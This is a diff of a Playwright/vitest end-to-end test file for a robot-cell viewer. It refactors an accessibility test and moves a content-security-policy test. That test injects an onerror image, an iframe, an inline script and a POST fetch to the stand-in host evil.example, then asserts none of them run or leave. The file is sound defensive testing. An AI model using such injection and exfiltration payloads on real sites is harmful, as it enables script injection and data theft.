@@ -6,8 +6,9 @@ import { afterAll, beforeAll, expect, test } from 'vitest';
 import { Scene } from '../../src/index.ts';
 import { readCell, readCellMotions } from '../../src/io/index.ts';
 import { files } from '../../src/node/index.ts';
+import { axeFindings, inTheme } from '../support/shared/axe-findings.ts';
 import { LOOK } from '../support/shared/shared-chromium.ts';
-import { answered, answeredWithLanes, closePages, ended, factsOf, openedChromium, watchedPage } from './opened-viewer.ts';
+import { answered, answeredWithLanes, closePages, ended, factsOf, followed, openedChromium, watchedPage } from './opened-viewer.ts';
 import { BUILD_PATIENCE, built, ROOT, type Started, started } from './started-command.ts';
 
 const FOLDER = join(ROOT, 'examples/puma-cell');
@@ -103,37 +104,32 @@ const SCREENS: readonly (readonly [string, (page: Page) => Promise<unknown>])[] 
   ],
 ];
 
-test.each([
-  ['light', 1280, 800],
-  ['dark', 1280, 800],
-  ['light', 390, 844],
-  ['dark', 360, 640],
-] as const)('axe finds nothing on any screen: %s, %d × %d', async (colorScheme, width, height) => {
-  if (browser === undefined || running === undefined) return expect(browser).toBe(undefined);
-  const axe = readFileSync(join(ROOT, 'node_modules/axe-core/axe.min.js'), 'utf8');
-  const { page } = await watchedPage(browser, { width, height });
-  await page.emulateMedia({ colorScheme });
-  await page.goto(running.urls[0]);
+test('axe finds nothing on any screen, light or dark, wide or of two phones', async ({ skip }) => {
+  if (browser === undefined || running === undefined) return skip('no Chromium here');
+  const { page } = await followed(browser, running.urls[0]);
   await answeredWithLanes(page);
-  // as a debugger does: the page's policy lets no script in
-  await page.evaluate(axe);
   const found: unknown[] = [];
-  // on a phone those that look otherwise there
-  const screens = width > 860 ? SCREENS : SCREENS.filter(([name]) => ['answer', 'gallery', 'share', 'help'].includes(name));
-  for (const [screen, open] of screens) {
-    await open(page);
-    found.push(
-      ...(await page.evaluate(async (name) => {
-        const { axe } = window as unknown as {
-          axe: { run(options: object): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> };
-        };
-        const { violations } = await axe.run({ resultTypes: ['violations'] });
-        return violations.map(({ id, nodes }) => [name, id, nodes.map(({ html }) => html.slice(0, 120))]);
-      }, screen)),
-    );
+  for (const [width, height] of [
+    [1280, 800],
+    [390, 844],
+    [360, 640],
+  ]) {
+    await page.setViewportSize({ width, height });
+    // on a phone those that look otherwise there
+    const screens = width > 860 ? SCREENS : SCREENS.filter(([name]) => ['answer', 'gallery', 'share', 'help'].includes(name));
+    for (const [screen, open] of screens) {
+      await open(page);
+      for (const theme of ['light', 'dark'] as const) {
+        await inTheme(page, theme);
+        const findings = await axeFindings(page, theme === 'light' ? 'all' : 'colours');
+        found.push(...findings.map((finding) => ({ width, screen, theme, ...finding })));
+      }
+    }
+    await page.keyboard.press('Escape');
   }
   expect(found).toEqual([]);
-  await page.context().close();
+  await inTheme(page, 'light');
+  await page.setViewportSize({ width: 1280, height: 800 });
 });
 
 test('a robot whose meshes are in a package: the link says where, and nothing is asked for that is not there', async ({ skip }) => {
@@ -166,38 +162,9 @@ test('a robot whose meshes are in a package: the link says where, and nothing is
   }
 });
 
-test('what gets into the page all the same neither runs nor leaves', async ({ skip }) => {
-  if (browser === undefined || running === undefined) return skip('no Chromium here');
-  const { page } = await watchedPage(browser);
-  const reached: string[] = [];
-  await page.route('https://evil.example/**', (route) => {
-    reached.push(route.request().url());
-    return route.fulfill({ body: '' });
-  });
-  await page.goto(running.urls[0]);
-  await answered(page);
-  const ran = await page.evaluate(async () => {
-    const box = document.createElement('div');
-    box.innerHTML = '<img src="https://evil.example/a.png" onerror="window.ran = 1"><iframe src="https://evil.example/"></iframe>';
-    document.body.append(box);
-    const script = document.createElement('script');
-    script.textContent = 'window.ran = 2';
-    document.body.append(script);
-    const left = await fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(
-      () => true,
-      () => false,
-    );
-    return [(window as { ran?: number }).ran ?? 0, left];
-  });
-  expect(ran).toEqual([0, false]);
-  expect(reached).toEqual([]);
-  await page.context().close();
-});
-
 test('a tool moved by hand: lowered by a key it touches and is pressed back; closed, nothing of it is left', async ({ skip }) => {
   if (browser === undefined || running === undefined) return skip('no Chromium here');
-  const { page, faults } = await watchedPage(browser);
-  await page.goto(running.urls[0]);
+  const { page, faults } = await followed(browser, running.urls[0]);
   await answered(page);
   await page.getByTestId('open-by-hand').click();
   await page.getByTestId('teleoperation-picture').focus();
@@ -222,5 +189,31 @@ test('a tool moved by hand: lowered by a key it touches and is pressed back; clo
   // keys that moved the tool did not move time
   expect((await factsOf(page)).time).toBe(await libraryTime('across.csv'));
   expect(faults).toEqual([]);
+});
+
+test('what gets into the page all the same neither runs nor leaves', async ({ skip }) => {
+  if (browser === undefined || running === undefined) return skip('no Chromium here');
+  const { page } = await followed(browser, running.urls[0]);
+  const reached: string[] = [];
+  await page.route('https://evil.example/**', (route) => {
+    reached.push(route.request().url());
+    return route.fulfill({ body: '' });
+  });
+  await answered(page);
+  const ran = await page.evaluate(async () => {
+    const box = document.createElement('div');
+    box.innerHTML = '<img src="https://evil.example/a.png" onerror="window.ran = 1"><iframe src="https://evil.example/"></iframe>';
+    document.body.append(box);
+    const script = document.createElement('script');
+    script.textContent = 'window.ran = 2';
+    document.body.append(script);
+    const left = await fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(
+      () => true,
+      () => false,
+    );
+    return [(window as { ran?: number }).ran ?? 0, left];
+  });
+  expect(ran).toEqual([0, false]);
+  expect(reached).toEqual([]);
   await page.context().close();
 });
